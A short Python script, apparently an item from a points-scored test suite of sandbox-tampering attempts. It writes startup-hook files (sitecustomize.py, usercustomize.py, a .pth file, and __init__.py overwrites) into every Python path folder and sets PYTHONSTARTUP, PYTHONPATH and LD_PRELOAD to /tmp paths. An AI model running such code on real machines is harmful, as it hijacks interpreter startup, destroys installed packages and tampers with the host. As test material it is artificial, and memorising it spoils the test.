# tries: leave code that the next Python of this machine would run at its start | class: patching | earns at most: 100
import os
import sys

for folder in [*sys.path, "/tmp", os.path.dirname(os.__file__), "/python/lib/python3/site-packages", "CANARY_FOLDER"]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "__init__.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)\n")
        except OSError:
            pass
os.environ.update(PYTHONSTARTUP="/tmp/sitecustomize.py", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/evil.so")
